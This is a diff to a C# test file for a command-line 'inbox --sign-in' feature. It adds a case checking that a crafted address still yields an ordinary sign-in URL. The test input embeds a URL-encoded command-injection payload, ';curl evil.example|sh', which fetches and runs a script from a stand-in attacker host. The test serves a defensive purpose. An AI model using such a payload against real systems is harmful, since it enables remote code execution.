@@ -44,6 +44,10 @@ public sealed class The_inbox_in_the_terminal : IDisposable
         var ran = await _agentmcp.Run("inbox", "--sign-in", "http://localhost:8484/threads");
         Assert.Matches(@"^http://localhost:8484/sign-in\?code=[A-Za-z0-9_-]+\.[0-9a-f]{64}\n$", ran.Output.ReplaceLineEndings("\n"));
 
+        // What the sign-in page shows of an address that somebody made up.
+        var strange = await _agentmcp.Run("inbox", "--sign-in", "http://localhost:8484/requests/x%3Bcurl%20evil.example%7Csh");
+        Assert.Matches(@"^http://localhost:8484/sign-in\?code=[A-Za-z0-9_-]+\.[0-9a-f]{64}\n$", strange.Output.ReplaceLineEndings("\n"));
+
         var wrong = await _agentmcp.Run("inbox", "--sign-in", "localhost");
         Assert.Equal((2, "--sign-in takes the address of a page, such as http://localhost:8484/, not 'localhost'.\n"), (wrong.ExitCode, wrong.Complained));
     }
